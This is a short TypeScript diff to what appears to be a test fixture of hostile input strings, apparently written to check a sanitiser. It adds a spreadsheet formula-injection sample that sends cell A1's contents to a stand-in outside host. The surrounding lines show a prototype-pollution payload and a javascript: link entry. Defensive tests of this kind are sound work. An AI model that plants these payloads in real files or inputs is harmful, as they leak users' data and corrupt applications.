@@ -41,6 +41,12 @@ export const MARKUP: readonly HostileText[] = [
   { what: 'a prototype', text: 'needle {"__proto__":{"polluted":true}} constructor.prototype.polluted=true' },
 ];
 
+/** In a spreadsheet it would ask for an address. */
+export const FORMULA: HostileText = {
+  what: 'a formula',
+  text: '=HYPERLINK("http://outside.example/?"&A1,"needle")',
+};
+
 /** Addresses that would run something, show something, or read a file, were they links. */
 const RUNNING = [
   `javascript:${ran('link')}`,
